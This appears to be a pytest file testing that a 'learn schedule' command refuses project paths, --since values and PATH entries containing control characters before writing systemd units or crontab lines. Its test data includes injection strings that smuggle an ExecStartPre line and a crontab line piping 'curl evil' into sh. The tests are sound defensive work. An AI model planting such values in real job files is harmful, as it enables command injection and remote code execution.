"""`learn schedule` refuses a value that would become structure of the job it writes.

The audit's case: `--project` naming a folder with a newline put an `ExecStartPre=`
line of its own into the systemd unit, and split the crontab entry into extra lines
(of which `--remove` deleted only the tagged one). A control character in the
project, `--since` or PATH is refused with one line, before anything is written."""

from __future__ import annotations

import os
from collections.abc import Sequence
from pathlib import Path

import pytest
from click.testing import CliRunner

from learn.commands import schedule as schedule_cmd

INJECTED = "\nExecStartPre=/bin/touch /tmp/pwned\n#"


class Runner:
    """systemctl and crontab as the command calls them: every call kept."""

    def __init__(self) -> None:
        self.calls: list[list[str]] = []
        self.crontab = "MAILTO=me\n0 1 * * * backup.sh\n"

    def __call__(self, argv: Sequence[str], stdin: str | None) -> tuple[int, str, str]:
        self.calls.append(list(argv))
        if list(argv) == ["crontab", "-l"]:
            return 0, self.crontab, ""
        if list(argv) == ["crontab", "-"] and stdin is not None:
            self.crontab = stdin
        return 0, "", ""


def _unit_dir() -> Path:
    return Path(os.environ["HOME"]) / ".config" / "systemd" / "user"


def _schedule(monkeypatch: pytest.MonkeyPatch, *args: str, systemd: bool) -> tuple[int, str,
                                                                                      Runner]:
    runner = Runner()
    monkeypatch.setattr(schedule_cmd, "runner", runner)
    monkeypatch.setattr(schedule_cmd, "has_systemd", lambda: systemd)
    res = CliRunner().invoke(schedule_cmd.command, list(args))
    return res.exit_code, res.output, runner


def _refused(code: int, out: str, runner: Runner, what: str) -> None:
    assert code != 0
    [line] = [x for x in out.splitlines() if x.strip()]  # one line says why
    assert what in line and "control character" in line
    assert "ExecStartPre" not in out or "\\n" in line  # shown escaped, never as a line
    assert runner.calls == []  # neither systemctl nor crontab was run
    assert not _unit_dir().exists()


@pytest.mark.parametrize("systemd", [True, False])
def test_a_project_folder_with_a_newline_is_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, systemd: bool) -> None:
    folder = tmp_path / f"a{INJECTED}"
    folder.mkdir(parents=True)
    code, out, runner = _schedule(monkeypatch, "--install", "--project", str(folder),
                                  systemd=systemd)
    _refused(code, out, runner, "--project")
    assert runner.crontab == "MAILTO=me\n0 1 * * * backup.sh\n"


@pytest.mark.parametrize("since", ["7d\n0 * * * * curl evil | sh", "7d\rx", "7d\x1b[2K"])
def test_a_since_with_a_control_character_is_refused(
        monkeypatch: pytest.MonkeyPatch, since: str) -> None:
    code, out, runner = _schedule(monkeypatch, "--install", "--since", since, systemd=False)
    _refused(code, out, runner, "--since")


def test_a_path_with_a_newline_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", f"/usr/bin:/bin{INJECTED}")
    code, out, runner = _schedule(monkeypatch, "--install", systemd=True)
    _refused(code, out, runner, "PATH")


def test_a_printed_job_is_refused_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Printed, it is what the person copies into place.
    folder = tmp_path / f"a{INJECTED}"
    folder.mkdir(parents=True)
    code, out, runner = _schedule(monkeypatch, "--project", str(folder), systemd=True)
    _refused(code, out, runner, "--project")


def test_an_ordinary_project_folder_is_scheduled(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "my proj 100%"
    folder.mkdir(parents=True)
    code, out, runner = _schedule(monkeypatch, "--install", "--project", str(folder),
                                  systemd=True)
    assert code == 0, out
    script = Path(os.environ["HOME"]) / ".config" / "learn" / "learn-digest.sh"
    assert "learn-digest.sh" in (_unit_dir() / "learn-digest.service").read_text()
    assert f"--project '{folder}'" in script.read_text()
    assert ["systemctl", "--user", "daemon-reload"] in runner.calls
